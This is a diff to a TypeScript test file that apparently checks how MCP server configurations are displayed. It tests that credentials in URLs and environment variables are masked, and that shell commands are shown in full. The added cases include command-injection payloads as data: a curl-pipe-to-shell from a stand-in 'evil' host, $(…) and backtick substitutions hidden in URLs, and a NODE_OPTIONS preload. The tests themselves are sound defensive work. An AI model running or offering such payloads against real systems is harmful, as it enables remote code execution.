@@ -11,7 +11,7 @@ function linesOf(server: object): string[] {
   using folder = folderWith({ ".env": "FROM_FILE=1\nNODE_OPTIONS=-r ./x.js\n" });
   const loaded = loadConfig({ mcpServers: { s: server } }, { env, cwd: folder.path });
   const lines = loaded.config.mcpServers.flatMap((each) => describeServer(each, loaded));
-  expect(lines.join("\n")).not.toMatch(/sk-of-the-user|s3cret/);
+  expect(lines.join("\n")).not.toMatch(/sk-of-the-user|s3cret|hidden/);
   return lines;
 }
 
@@ -30,6 +30,19 @@ test.each<[string, object, string[]]>([
     "no secret that stands in the file",
     { command: "node", env: { API_TOKEN: "abcdef0123456789" } },
     ["gets the variable API_TOKEN: ***"],
+  ],
+  [
+    "all that a shell would run, whatever it looks like",
+    {
+      command: "sh",
+      args: ["-c", "a://x?;curl${IFS:-}evil|sh", "b://$(evil)@c", "d://u:p`evil`@e", "f://x?y=1&./evil&z=1"],
+    },
+    ["starts the MCP server s: sh -c a://x?;curl${IFS:-}evil|sh b://$(evil)@c d://u:p`evil`@e f://x?y=1&./evil&z=1"],
+  ],
+  [
+    "no user and no query of an address",
+    { command: "npx", args: ["postgres://me:hidden1@db/x", "https://x.example/a?key=hidden2&b=hidden3", "a.b"] },
+    ["starts the MCP server s: npx postgres://***@db/x https://x.example/a?*** a.b"],
   ],
   [
     "the variables of the user's environment that it gets",
